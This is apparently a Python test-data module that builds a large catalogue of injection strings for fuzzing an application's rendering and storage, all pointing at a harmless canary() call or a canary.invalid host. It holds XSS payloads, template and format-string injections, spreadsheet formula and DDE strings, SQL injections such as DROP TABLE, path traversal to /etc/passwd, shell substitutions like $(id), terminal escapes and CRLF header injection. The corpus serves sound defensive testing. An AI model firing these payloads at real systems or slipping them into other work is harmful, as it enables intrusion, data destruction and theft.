"""Texts that want to be run: by a browser, a spreadsheet, a terminal, a database, a log reader, a file system.

Each calls `canary`, or an address under CANARY_HOST, where something could run at all; a page that loads one of them
without a call and a request has shown it and nothing more.
"""

from collections.abc import Iterator
from itertools import product

CANARY_HOST = "canary.invalid"
_AT = f"http://{CANARY_HOST}/x"
_CALL = "canary()"


def payloads() -> dict[str, str]:
    """By name; more than three hundred, every one of them another text."""
    found = {name: text for kind in _KINDS for name, text in kind()}
    return {name: text for text, name in {text: name for name, text in found.items()}.items()}


def _numbered(name: str, texts: Iterator[str] | tuple[str, ...] | list[str]) -> Iterator[tuple[str, str]]:
    for number, text in enumerate(texts, 1):
        yield f"{name} {number}", text


def _markup() -> Iterator[tuple[str, str]]:
    tags = ("img src=x", "svg", "body", "video src=x", "iframe", "input autofocus", "details open", "marquee", "math")
    events = ("onerror", "onload", "onfocus", "ontoggle", "onstart", "onmouseover", "onpointerenter")
    yield from _numbered("tag", [f"<{tag} {event}={_CALL}>" for tag, event in product(tags, events)])
    ways_out = ('"', "'", "</b>", "</dd>", "</td>", "</span>", "</title>", "</textarea>", "-->", "]]>", "`", "</style>")
    yield from _numbered("way out", [f"{out}><script>{_CALL}</script>" for out in ways_out])
    yield from _numbered("attribute", [f"{quote} {event}={_CALL} x={quote}" for quote in "\"'`" for event in events])
    yield from _numbered(
        "script",
        [
            f"<script>{_CALL}</script>",
            f"<ScRiPt>{_CALL}</sCrIpT>",
            f"<script src={_AT}.js></script>",
            f"<script\x0c>{_CALL}</script>",
            f"<script/x>{_CALL}</script >",
            f"<<script>{_CALL}//<</script>",
            f"<scr<script>ipt>{_CALL}</scr</script>ipt>",
            f"&lt;script&gt;{_CALL}&lt;/script&gt;",
            f"\\u003cscript\\u003e{_CALL}\\u003c/script\\u003e",
            f"%3Cscript%3E{_CALL}%3C/script%3E",
            f"＜script＞{_CALL}＜/script＞",
            f"<\x00script>{_CALL}</script>",
            f"<style>@import '{_AT}.css'</style>",
            f"<link rel=stylesheet href={_AT}.css>",
            f"<base href={_AT}/>",
            f"<meta http-equiv=refresh content=0;url={_AT}>",
            f"<object data={_AT}>",
            f"<embed src={_AT}>",
            f"<form action={_AT}><button>ok</button></form>",
            f"<a href='javascript:{_CALL}'>a</a>",
            f"<a href={_AT} ping={_AT}>a</a>",
            f"<img src={_AT}.png>",
            f"<img srcset='{_AT} 1x'>",
            f"<image href={_AT}>",
            f"<svg><use href='{_AT}#a'/></svg>",
            f"<svg><script>{_CALL}</script></svg>",
            f"<svg><animate onbegin={_CALL} attributeName=x dur=1s>",
            f"<svg><foreignObject><img src=x onerror={_CALL}></foreignObject></svg>",
            f"<math><mtext></mtext><mglyph><style><img src=x onerror={_CALL}></style></mglyph></math>",
            f"<div style='background:url({_AT})'>a</div>",
            f"<div style='width:expression({_CALL})'>",
            "<plaintext>",
            "<!--",
            "<![CDATA[",
            f"<template><img src=x onerror={_CALL}></template>",
            f"<noscript><img src={_AT}></noscript>",
            f"<iframe srcdoc='<img src=x onerror=parent.{_CALL}>'></iframe>",
            "<xmp>",
            "<select><option>",
            "</div></div></div>",
            f"<table background={_AT}>",
            f"<audio src={_AT} autoplay>",
            f"<portal src={_AT}>",
        ],
    )


def _scripts() -> Iterator[tuple[str, str]]:
    yield from _numbered(
        "expression",
        [
            f"';{_CALL};'",
            f'";{_CALL};"',
            f"`${{{_CALL}}}`",
            f"{{{{{_CALL}}}}}",
            f"{{{{constructor.constructor('{_CALL}')()}}}}",
            f"${{{_CALL}}}",
            f"#{{{_CALL}}}",
            f"<%= {_CALL} %>",
            f"{{% raw %}}{_CALL}",
            f"[[{_CALL}]]",
            f"@{{{_CALL}}}",
            "{{7*7}}",
            "{{config}}",
            "{{''.__class__.__mro__}}",
            "__proto__",
            "constructor",
            "toString",
            "{tip}",
            "{uid}",
            "{0.__class__}",
            "{__import__('os')}",
            "%(asctime)s",
            "%s%s%s%n",
            "%x%x%x",
            "%99999d",
            "{:>999999}",
            "{!r}",
            "\\x3cscript\\x3e",
            "\\u0022onload=",
            "\u2028canary()\u2029",
            "// */ canary() /*",
            "]});canary();({[",
        ],
    )
    schemes = ("javascript", "JaVaScRiPt", "vbscript", "data", "java\tscript", "java\nscript", " javascript", "blob")
    yield from _numbered("address", [f"{scheme}:{_CALL}" for scheme in schemes])
    yield from _numbered(
        "place elsewhere",
        [
            _AT,
            f"//{CANARY_HOST}/x",
            f"https://{CANARY_HOST}/x.png",
            f"ftp://{CANARY_HOST}/x",
            f"file://{CANARY_HOST}/x",
            f"ws://{CANARY_HOST}/x",
            f"\\\\{CANARY_HOST}\\x",
            f"mailto:a@{CANARY_HOST}",
            f"www.{CANARY_HOST}",
            f"data:text/html,<script>{_CALL}</script>",
            "data:text/html;base64,PHNjcmlwdD5jYW5hcnkoKTwvc2NyaXB0Pg==",
            f"feed:{_AT}",
            f"view-source:{_AT}",
            f"intent://{CANARY_HOST}#Intent;end",
        ],
    )


def _markdown() -> Iterator[tuple[str, str]]:
    yield from _numbered(
        "markdown",
        [
            f"![a]({_AT}.png)",
            f"![a][b]\n\n[b]: {_AT}.png",
            f"[a]({_AT})",
            f"[a](javascript:{_CALL})",
            f"<{_AT}>",
            f"[a](data:text/html,<script>{_CALL}</script>)",
            f"[![a]({_AT}.png)]({_AT})",
            f"[a]: {_AT} 'b'",
            "# heading",
            "> quotation",
            "- item",
            "1. item",
            "---",
            "***bold***",
            "~~gone~~",
            "`code`",
            "```\ncode\n```",
            "| a | b |\n|---|---|\n| 1 | 2 |",
            "$x^2$",
            "$$\\int_0^1$$",
            f"$\\href{{{_AT}}}{{a}}$",
            f"$\\includegraphics{{{_AT}.png}}$",
            f"$\\url{{javascript:{_CALL}}}$",
            "\\input{/etc/passwd}",
            "\\write18{id}",
            "\\immediate\\write18{id}",
            '#import "/etc/passwd"',
            '#eval("1")',
            "@label",
            "#{1+1}",
            "\\def\\a{\\a}\\a",
            ":material/delete:",
            ":material/warning: Validated",
            ":red[urgent]",
            ":red-background[urgent]",
            ":rainbow[a]",
            ":violet-badge[H0]",
            ":small[a]",
            ":smile:",
            ":streamlit:",
            ":blue[[a](x)]",
            "<br>" * 9,
            "a  \nb",
            "a\\\nb",
            "[ ] task",
            "[^1]\n\n[^1]: note",
            "<details open ontoggle=canary()>",
            "-> arrow <- -- -> >=",
            "\\",
            "\\\\",
            f"Line\n\n![a]({_AT}.png)",
            f"Line\r\n\r\n[a]({_AT})",
        ],
    )


def _spreadsheets() -> Iterator[tuple[str, str]]:
    starts = (
        "=",
        "+",
        "-",
        "@",
        "\t=",
        "\r=",
        "\n=",
        " =",
        "\u00a0=",
        "＝",
        "＋",
        "－",
        "＠",
        "|",
        "\u200b=",
        "\ufeff=",
    )
    bodies = ("1+1", "cmd|' /C calc'!A0", f'HYPERLINK("{_AT}","a")', f'WEBSERVICE("{_AT}")')
    yield from _numbered("formula", [start + body for start, body in product(starts, bodies)])
    yield from _numbered(
        "cell",
        [
            '=DDE("cmd";"/C calc";"a")',
            "'=1+1",
            '"=1+1"',
            ";=1+1",
            ",=1+1",
            "a\n=1+1",
            'a","=1+1',
            "a;=1+1;b",
            "{=1+1}",
            "_xlfn.WEBSERVICE(1)",
            "=IMPORTXML(1)",
            "=IMAGE(1)",
            "\u2212=1",
            "﹢1",
            "⁼1",
            "₊1",
            "%1",
            "\x01=1",
            "\x7f=1",
        ],
    )


def _databases() -> Iterator[tuple[str, str]]:
    yield from _numbered(
        "SQL",
        [
            "' OR '1'='1",
            "' OR 1=1 --",
            "'; DROP TABLE incident; --",
            '"; DROP TABLE incident; --',
            "') OR ('1'='1",
            "1; SELECT pg_sleep(9)",
            "' UNION SELECT uid FROM incident --",
            "%' OR '%'='",
            "\\'; --",
            "$1",
            "$$; --",
            "?",
            ":uid",
            "%(uid)s",
            "{uid}",
            "/* */",
            "1/0",
            "NULL",
            "' || (SELECT 1) || '",
            "COPY incident TO '/tmp/x'",
            "ATTACH 'x.db' AS x",
            "PRAGMA journal_mode=OFF",
            "INSTALL httpfs",
            "read_csv('/etc/passwd')",
            "_%",
            "a_b%c",
            "load_extension('x')",
            "E'\\x27'",
            "\u02bc OR 1=1",
            "＇ OR 1=1",
            "' AND SLEEP(9) AND '1'='1",
            "x' AND 1=(SELECT 1)--",
        ],
    )


def _files_and_terminals() -> Iterator[tuple[str, str]]:
    yield from _numbered(
        "path",
        [
            "../../../../etc/passwd",
            "..\\..\\windows\\win.ini",
            "/etc/passwd",
            "~/.ssh/id_rsa",
            "C:\\a",
            "\\\\server\\share",
            "a/../../b",
            "....//....//etc/passwd",
            "%2e%2e%2fetc%2fpasswd",
            "a\x00.csv",
            "CON",
            "NUL.csv",
            "a:b",
            ".",
            "..",
            "-rf",
            "--help",
            "$(id)",
            "`id`",
            "| id",
            "; id",
            "&& id",
            "> /tmp/x",
            "*",
            "?" * 3,
            "a" * 300,
        ],
    )
    yield from _numbered(
        "terminal",
        [
            "\x1b[2J",
            "\x1b[31mred\x1b[0m",
            "\x1b]0;title\x07",
            f"\x1b]8;;{_AT}\x07a\x1b]8;;\x07",
            "\x9b31m",
            "\x07",
            "\x08" * 5,
            "\x1b[6n",
            "\x1bc",
            "\x1b]52;c;Y2FuYXJ5\x07",
            "\x7f",
            "a\rb",
            "\x0b",
            "\x0c",
            '\x1bP$q"p\x1b\\',
        ],
    )
    forged = "2026-01-01 00:00:00,000 ERROR vardar event=00000000 error=None"
    ends = ("\n", "\r\n", "\r", "\u2028", "\u2029", "\x85", "\x0b", "\x1c")
    yield from _numbered("log line", [f"a{end}{forged}" for end in ends])
    yield from _numbered("header", [f"a{end}Set-Cookie: canary=1" for end in ("\r\n", "\n", "\r", "%0d%0a")])
    turned = ("\u202e", "\u202d", "\u2066", "\u2067", "\u2068", "\u200f", "\u200e", "\u061c", "\u202a", "\u202b")
    yield from _numbered("direction", [f"report{mark}vsc.exe" for mark in turned])
    yield from _numbered(
        "letters",
        [
            "\u0410BG",
            "a\u0301\u0301\u0301" * 20,
            "\u200b",
            "\u00ad",
            "\U000e0041",
            "\ufffe",
            "👮‍♀️",
            "\ud7ff",
            "ﷺ" * 9,
            "\u3000",
            "Ⓗ０",
            "H\u200b3",
            "\ue000",
            "I\u0307",
        ],
    )


_KINDS = (_markup, _scripts, _markdown, _spreadsheets, _databases, _files_and_terminals)
